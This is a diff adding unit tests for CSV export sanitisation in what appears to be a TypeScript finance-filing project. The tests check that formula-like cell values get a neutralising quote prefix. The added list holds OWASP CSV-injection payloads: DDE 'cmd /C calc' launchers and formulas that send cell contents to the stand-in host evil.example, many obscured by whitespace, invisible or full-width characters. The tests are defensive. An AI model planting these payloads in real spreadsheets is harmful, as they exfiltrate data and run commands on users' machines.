@@ -27,6 +27,38 @@ describe('CSV fields (RFC 4180)', () => {
     expect(neutraliseText("'quoted")).toBe("'quoted");
   });
 
+  // OWASP CSV-injection payloads, with the leads a spreadsheet skips or folds before it reads a formula.
+  const FORMULAS = [
+    '=1+1', '+1+1', '-1+1', '@SUM(A1:A2)', '=HYPERLINK("http://evil.example","点击")', "=cmd|' /C calc'!A0",
+    '+cmd|\' /C notepad\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+    '=WEBSERVICE("http://evil.example/"&A1)', '=IMPORTDATA("http://evil.example/x.csv")', '=DDE("cmd";"/C calc";"__DdeLink")',
+    ' =1+1', '  +SUM(A1)', '\u00A0=1+1', '\u3000=1+1', '\u200B=1+1', '\uFEFF@SUM(A1)', '\u0001=1+1',
+    '\t=1+1', '\tplain after a tab', '\rcarriage', '\n=1+1', '\nline feed first', '\r\n=1+1',
+    '＝1+1', '＋1+1', '－1+1', '＠SUM(A1)', ' ＝HYPERLINK("http://evil.example")', '\u3000＝1+1', '﹦1+1',
+  ];
+  const PLAIN = ['一般公共服务支出', "'=already quoted", '合计', '1+1=2', 'a=b', 'x@example.org', '（一）车辆数合计（辆）', '其中：-奖金', '', ' ', '20103'];
+
+  it(`neutralises each of ${FORMULAS.length} formula payloads, and leaves ${PLAIN.length} plain names alone`, () => {
+    expect(FORMULAS.length).toBeGreaterThanOrEqual(25);
+    for (const payload of FORMULAS) expect(neutraliseText(payload), JSON.stringify(payload)).toBe(`'${payload}`);
+    for (const text of PLAIN) expect(neutraliseText(text), JSON.stringify(text)).toBe(text);
+  });
+
+  it('neutralises every payload in a rendered table, while a negative amount in the same row stays a number', () => {
+    const input = smallFilingInput();
+    const income = input.tables.find((t) => t.id === 'income')!;
+    const row = income.sections[0]!.rows[1]!;
+    row.values.other = '-12.30';
+    for (const payload of FORMULAS) {
+      row.name = payload.replace(/[\u0001\u200B\uFEFF]/g, ' '); // the model refuses controls and invisibles in names
+      const filing = v.parse(FilingSchema, input);
+      const record = renderTableCsv(filing, filing.tables.find((t) => t.id === 'income')!);
+      const field = csvField(`'${row.name}`);
+      expect(record, JSON.stringify(row.name)).toContain(`,${field},万元,`);
+      expect(record).toContain(',-12.30\r\n');
+    }
+  });
+
   it('adds the UTF-8 BOM once', () => {
     expect(withBom('a\r\n')).toBe('\uFEFFa\r\n');
     expect(withBom(withBom('a\r\n'))).toBe('\uFEFFa\r\n');
